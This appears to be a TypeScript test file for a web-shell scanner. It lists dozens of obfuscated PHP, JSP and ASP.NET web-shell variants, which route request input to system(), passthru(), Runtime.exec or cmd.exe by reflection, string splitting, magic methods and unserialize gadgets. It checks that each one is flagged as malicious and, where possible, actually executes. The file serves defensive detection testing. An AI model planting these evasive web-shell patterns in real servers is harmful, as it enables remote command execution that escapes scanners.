import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createScanner } from './scanner.js';
import { hasJavac, runJavaScriptlet } from './scan-test-kit.js';

// Red team of S19's variants (57c6170, e037722, 858816a): the same ways in with small twists,
// each scanned clean or only suspicious on main at f3df55c (bench/redteam/README-variants-s19.md,
// S19V-n). Each PHP sample is run by PHP 8.2 where it is here (the CLI with the request set up
// in PHP, php-cgi for a request body) and prints the mark of `echo`; each JSP sample's Java is
// compiled and run by javac/java with a stub `request` whose parameter is the command `true`.
const scanner = createScanner({});
const dir = mkdtempSync(join(tmpdir(), 'mamori-flow-redteam-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const has = (cmd: string) => spawnSync(cmd, ['-v'], { encoding: 'utf8' }).status === 0;
const php = has('php');
const cgi = has('php-cgi');
const javac = hasJavac();

const MARK = `ran${process.pid}`;
const CMD = `echo ${MARK}`;
const GET = `$_GET = ['c' => '${CMD}', 'm' => 'go'];`;
const QS = `$_SERVER['QUERY_STRING'] = 'f=system&m=go&c=echo+${MARK}';`;
const COOKIE = (o: string) => `$_COOKIE['s'] = '${o}';`;
const ser = (cls: string, props: [string, string][]) => `O:${cls.length}:"${cls}":${props.length}:{${props.map(([k, v]) => `s:${k.length}:"${k}";s:${v.length}:"${v}";`).join('')}}`;

/** The variants still open on this branch (README-variants-s19.md, status open): run as todo, they fail without failing the run. */
const OPEN = new Set<string>([
  // (all of S19V-12, -13 and -15 fixed in session 21: web-source.ts's foldCStrings)
]);
const todo = (title: string) => (OPEN.has(title) ? { todo: 'open' } : {});

interface Sample {
  id: string;
  name: string;
  src: string;
  /** PHP that sets the request up (CLI), or a body to POST (php-cgi). */
  boot?: string;
  body?: string;
}

const SAMPLES: Sample[] = [
  // parse_str's result where it is not a bare variable
  { id: 'S19V-1', name: 'parse_str into an array element', src: `parse_str($_SERVER['QUERY_STRING'], $q['a']); $q['a']['f']($q['a']['c']);`, boot: QS },
  { id: 'S19V-1', name: 'parse_str with its result named (result: $q)', src: `parse_str($_SERVER['QUERY_STRING'], result: $q); $q['f']($q['c']);`, boot: QS },
  { id: 'S19V-1', name: 'parse_str written \\parse_str', src: `\\parse_str($_SERVER['QUERY_STRING'], $q); $q['f']($q['c']);`, boot: QS },
  // php://input not written as one literal
  { id: 'S19V-2', name: "'php://' . 'input'", src: `$c = file_get_contents('php://' . 'input'); system($c);`, body: CMD },
  { id: 'S19V-2', name: 'php://input with an escape in double quotes', src: `$c = file_get_contents("php://inpu\\x74"); system($c);`, body: CMD },
  { id: 'S19V-2', name: 'php://input read by SplFileObject', src: `$o = new SplFileObject('php://input'); system($o->fgets());`, body: CMD },
  // foreach that destructures its value
  { id: 'S19V-3', name: 'foreach ($_GET as [$f, $c])', src: `foreach ($_GET as [$f, $c]) $f($c);`, boot: `$_GET = ['a' => ['system', '${CMD}']];` },
  { id: 'S19V-3', name: 'foreach ($_GET as $k => list($c))', src: `foreach ($_GET as $k => list($c)) $k($c);`, boot: `$_GET = ['system' => ['${CMD}']];` },
  // an indexed call result, parenthesised or with brackets in its index
  { id: 'S19V-4', name: '(array_keys($_GET))[0]', src: `$k = (array_keys($_GET))[0]; $k($_GET[$k]);`, boot: `$_GET = ['system' => '${CMD}'];` },
  { id: 'S19V-4', name: 'array_keys($_GET)[count([])]', src: `$k = array_keys($_GET)[count([])]; $k($_GET[$k]);`, boot: `$_GET = ['system' => '${CMD}'];` },
  // a sink's name as a callable string, or joined other ways
  { id: 'S19V-5', name: "array_filter([$_GET[c]], '\\\\system')", src: `array_filter([$_GET['c']], '\\\\system');`, boot: GET },
  { id: 'S19V-5', name: 'a sink name joined with .=', src: `$c = 'sys'; $c .= 'tem'; $c($_GET['c']);`, boot: GET },
  { id: 'S19V-5', name: 'a sink name joined by interpolation', src: `$a = 'sys'; $c = "{$a}tem"; $c($_GET['c']);`, boot: GET },
  { id: 'S19V-5', name: 'a sink name joined by implode', src: `$c = implode('', ['sys', 'tem']); $c($_GET['c']);`, boot: GET },
  // a method chosen by the request, in the other ways PHP writes it
  { id: 'S19V-6', name: '$o->{$m}(...)', src: `class Q { function go($c) { system($c); } }\n$m = $_GET['m']; (new Q)->{$m}($_GET['c']);`, boot: GET },
  { id: 'S19V-6', name: "$o->{$_GET['m']}(...)", src: `class Q { function go($c) { system($c); } }\n(new Q)->{$_GET['m']}($_GET['c']);`, boot: GET },
  { id: 'S19V-6', name: '[$o, $m](...)', src: `class Q { function go($c) { system($c); } }\n$m = $_GET['m']; [new Q, $m]($_GET['c']);`, boot: GET },
  { id: 'S19V-6', name: 'a method named by parse_str output', src: `class Q { function go($c) { system($c); } }\nparse_str($_SERVER['QUERY_STRING'], $q); (new Q)->{$q['m']}($q['c']);`, boot: QS },
  { id: 'S19V-6', name: 'a method named by a reference to request input', src: `class Q { function go($c) { system($c); } }\n$m = &$_GET['m']; (new Q)->$m($_GET['c']);`, boot: GET },
  // an object called in the other ways PHP calls it
  { id: 'S19V-7', name: '(new R)($_GET[c])', src: `class R { function __invoke($p) { system($p); } }\n(new R)($_GET['c']);`, boot: GET },
  { id: 'S19V-7', name: 'array_map(new R, [$_GET[c]])', src: `class R { function __invoke($p) { system($p); } }\narray_map(new R, [$_GET['c']]);`, boot: GET },
  { id: 'S19V-7', name: 'call_user_func_array(new R, $_GET)', src: `class R { function __invoke($c) { system($c); } }\ncall_user_func_array(new R, $_GET);`, boot: `$_GET = ['c' => '${CMD}'];` },
  // magic methods and constructors that take the call's arguments
  { id: 'S19V-8', name: '__call', src: `class Q { function __call($n, $a) { system($a[0]); } }\n(new Q)->anything($_GET['c']);`, boot: GET },
  { id: 'S19V-8', name: '__callStatic', src: `class Q { static function __callStatic($n, $a) { system($a[0]); } }\nQ::anything($_GET['c']);`, boot: GET },
  { id: 'S19V-8', name: '__set', src: `class Q { function __set($n, $v) { system($v); } }\n$q = new Q; $q->x = $_GET['c'];`, boot: GET },
  { id: 'S19V-8', name: 'a constructor given request input (new Q(...))', src: `class Q { function __construct($c) { system($c); } }\nnew Q($_GET['c']);`, boot: GET },
  // properties given request input in the other ways
  { id: 'S19V-9', name: 'a nested property ($this->a->b)', src: `class S { public $a; function __destruct() { system($this->a->b); } }\n$s = new S; $s->a = new stdClass; $s->a->b = $_GET['c'];`, boot: GET },
  { id: 'S19V-9', name: 'a static property (self::$c)', src: `class S { public static $c; static function run() { system(self::$c); } }\nS::$c = $_GET['c']; S::run();`, boot: GET },
  { id: 'S19V-9', name: "a property's element ($o->c['x'])", src: `class S { public $c = []; function __destruct() { system($this->c['x']); } }\n$s = new S; $s->c['x'] = $_GET['c'];`, boot: GET },
  { id: 'S19V-9', name: 'a property appended to (.=)', src: `class S { public $c = ''; function __destruct() { system($this->c); } }\n$s = new S; $s->c .= $_GET['c'];`, boot: GET },
  { id: 'S19V-9', name: 'a property given a reference (= &$_GET)', src: `class S { public $c; function __destruct() { system($this->c); } }\n$s = new S; $s->c = &$_GET['c'];`, boot: GET },
  { id: 'S19V-9', name: 'a property set by the constructor', src: `class S { public $c; function __construct($c) { $this->c = $c; } function __destruct() { system($this->c); } }\nnew S($_GET['c']);`, boot: GET },
  { id: 'S19V-9', name: 'a property set by a setter', src: `class S { public $c; function set($c) { $this->c = $c; } function __destruct() { system($this->c); } }\n$s = new S; $s->set($_GET['c']);`, boot: GET },
  { id: 'S19V-9', name: "a property named in braces ($o->{'c'})", src: `class S { public $c; function __destruct() { system($this->c); } }\n$s = new S; $s->{'c'} = $_GET['c'];`, boot: GET },
  // unserialize() gadgets written another way
  { id: 'S19V-10', name: 'a magic method that copies the property first', src: `class D { public $cmd; function __wakeup() { $c = $this->cmd; passthru($c); } }\nunserialize($_COOKIE['s']);`, boot: COOKIE(ser('D', [['cmd', CMD]])) },
  { id: 'S19V-10', name: 'a magic method that interpolates the property', src: `class D { public $cmd; function __wakeup() { passthru("{$this->cmd}"); } }\nunserialize($_COOKIE['s']);`, boot: COOKIE(ser('D', [['cmd', CMD]])) },
  { id: 'S19V-10', name: 'a magic method with @ before the property', src: `class D { public $cmd; function __wakeup() { passthru(@$this->cmd); } }\nunserialize($_COOKIE['s']);`, boot: COOKIE(ser('D', [['cmd', CMD]])) },
  { id: 'S19V-10', name: '\\unserialize', src: `class D { public $cmd; function __wakeup() { passthru($this->cmd); } }\n\\unserialize($_COOKIE['s']);`, boot: COOKIE(ser('D', [['cmd', CMD]])) },
  { id: 'S19V-10', name: '($this->f)($this->a) in __destruct', src: `class D { public $f; public $a; function __destruct() { ($this->f)($this->a); } }\nunserialize($_COOKIE['s']);`, boot: COOKIE(ser('D', [['f', 'system'], ['a', CMD]])) },
  { id: 'S19V-10', name: '__unserialize(array $d)', src: `class D { function __unserialize(array $d): void { system($d['c']); } }\nunserialize($_COOKIE['s']);`, boot: COOKIE(ser('D', [['c', CMD]])) },
  // request input the source list does not know, and ways of holding it
  { id: 'S19V-11', name: "getenv('QUERY_STRING')", src: `system(urldecode(getenv('QUERY_STRING')));`, boot: `putenv('QUERY_STRING=echo+${MARK}');` },
  { id: 'S19V-11', name: 'filter_input(INPUT_GET, ...)', src: `system(filter_input(INPUT_GET, 'c'));` },
  { id: 'S19V-11', name: "$_SERVER['PHP_SELF'] (the path info)", src: `system(urldecode(substr(strrchr($_SERVER['PHP_SELF'], '/'), 1)));`, boot: `$_SERVER['PHP_SELF'] = '/x.php/echo%20${MARK}';` },
  { id: 'S19V-11', name: 'a reference to request input ($c = &$_GET[c])', src: `$c = &$_GET['c']; system($c);`, boot: GET },
  { id: 'S19V-11', name: "preg_match's matches", src: `preg_match('/(.+)/', $_GET['c'], $m); system($m[1]);`, boot: GET },
  { id: 'S19V-11', name: 'array_push', src: `$a = []; array_push($a, $_GET['c']); system($a[0]);`, boot: GET },
];

/** What PHP prints running the sample with its request. */
function runByPhp(s: Sample): string | undefined {
  const f = join(dir, 'shell.php');
  writeFileSync(f, `<?php\n${s.src}\n`);
  if (s.body !== undefined) {
    if (!cgi) return undefined;
    const env = { ...process.env, REQUEST_METHOD: 'POST', CONTENT_TYPE: 'application/octet-stream', CONTENT_LENGTH: String(Buffer.byteLength(s.body)), SCRIPT_FILENAME: f, REDIRECT_STATUS: '1', GATEWAY_INTERFACE: 'CGI/1.1' };
    return spawnSync('php-cgi', [], { input: s.body, env, encoding: 'utf8', timeout: 20_000 }).stdout;
  }
  if (!cgi && /filter_input/.test(s.src)) return undefined;
  if (/filter_input/.test(s.src)) {
    // (filter_input reads the request PHP was given, not $_GET: a GET request through php-cgi)
    const env = { ...process.env, REQUEST_METHOD: 'GET', QUERY_STRING: `c=echo+${MARK}`, SCRIPT_FILENAME: f, REDIRECT_STATUS: '1', GATEWAY_INTERFACE: 'CGI/1.1' };
    return spawnSync('php-cgi', [], { env, encoding: 'utf8', timeout: 20_000 }).stdout;
  }
  if (!php) return undefined;
  return spawnSync('php', ['-d', 'display_errors=stderr', '-r', `${s.boot ?? ''} include $argv[1];`, f], { encoding: 'utf8', timeout: 20_000 }).stdout;
}

describe('scan: S19 variants with small twists (PHP)', () => {
  for (const s of SAMPLES) {
    it(`${s.id}: ${s.name}`, todo(`${s.id}: ${s.name}`), () => {
      const r = scanner.scanBuffer(Buffer.from(`<?php\n${s.src}\n`), '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      const out = runByPhp(s);
      if (out !== undefined) assert.match(out, new RegExp(MARK), 'PHP runs it');
    });
  }
});

const runJava = (scriptlet: string): string => runJavaScriptlet(dir, scriptlet);

const EXEC = 'r.getClass().getMethod("exec", String.class).invoke(r, request.getParameter("c"));';
const JSP: [string, string, string][] = [
  ['S19V-12', 'getDeclaredMethod on Runtime.class', 'java.lang.reflect.Method m = Runtime.class.getDeclaredMethod("exec", String.class); m.invoke(Runtime.getRuntime(), request.getParameter("c"));'],
  ['S19V-12', "Runtime.class's method named in a variable", 'String n = "exec"; Runtime.class.getMethod(n, String.class).invoke(Runtime.getRuntime(), request.getParameter("c"));'],
  ['S19V-12', "getMethod's name joined through a variable", 'String a = "ex"; java.lang.reflect.Method m = Runtime.class.getMethod(a + "ec", String.class); m.invoke(Runtime.getRuntime(), request.getParameter("c"));'],
  ['S19V-12', 'Class.forName of a variable joined with a literal', `String p = "java.lang."; Object r = Class.forName(p + "Runtime").getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'Class.forName with an octal escape', `Object r = Class.forName("java.lang.R\\165ntime").getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'Class.forName with a char piece', `Object r = Class.forName("java.lang.Run" + 't' + "ime").getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'Class.forName with a comment between the pieces', `Object r = Class.forName("java.lang.Run" /**/ + "time").getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'Class.forName of String.concat', `Object r = Class.forName("java.lang.".concat("Runtime")).getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'Class.forName of a StringBuilder reversed', `Object r = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString()).getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'Class.forName of String.valueOf joined', `Object r = Class.forName(String.valueOf("java.lang.Run") + "time").getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', 'ClassLoader.loadClass', `Object r = ClassLoader.getSystemClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null); ${EXEC}`],
  ['S19V-12', '(Runtime.getRuntime()).exec', 'String c = request.getParameter("c"); (Runtime.getRuntime()).exec(c);'],
  ['S19V-13', 'getParameterValues', 'Runtime.getRuntime().exec(request.getParameterValues("c")[0]);'],
  ['S19V-13', 'the request through a variable', 'Req q = request; Runtime.getRuntime().exec(q.getParameter("c"));'],
];

describe('scan: S19 variants with small twists (JSP)', () => {
  for (const [id, name, code] of JSP) {
    it(`${id}: ${name}`, todo(`${id}: ${name}`), () => {
      const r = scanner.scanBuffer(Buffer.from(`<% ${code} %>`), '/srv/app/x.jsp');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      if (javac) assert.match(runJava(code), /exec-ran/, 'Java compiles and runs it');
    });
  }
});

// (no C# compiler here: these are scanned only; each is what the C# spec reads as "cmd.exe" or a web method)
const W = (body: string, attr = '[WebMethod]') => `<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; public class S : WebService { ${attr} public string R(string c) { ${body} } }\n`;
const ASMX: [string, string, string][] = [
  ['S19V-15', 'a web method among other attributes ([ScriptMethod, WebMethod(...)])', W('return System.Diagnostics.Process.Start("cmd.exe", "/c " + c).StandardOutput.ReadToEnd();', '[ScriptMethod, WebMethod(EnableSession = true)]')],
  ['S19V-15', 'cmd.exe joined from verbatim strings (@"cm" + @"d.exe")', W('return System.Diagnostics.Process.Start(@"cm" + @"d.exe", "/c " + c).StandardOutput.ReadToEnd();')],
  ['S19V-15', 'cmd.exe joined by string.Concat', W('return System.Diagnostics.Process.Start(string.Concat("cm", "d.exe"), "/c " + c).StandardOutput.ReadToEnd();')],
  ['S19V-15', 'cmd.exe written with a \\x escape', W('return System.Diagnostics.Process.Start("\\x63md.exe", "/c " + c).StandardOutput.ReadToEnd();')],
];

describe('scan: S19 variants with small twists (ASP.NET web services)', () => {
  for (const [id, name, src] of ASMX) {
    it(`${id}: ${name}`, todo(`${id}: ${name}`), () => {
      const r = scanner.scanBuffer(Buffer.from(src), '/srv/app/x.asmx');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
});
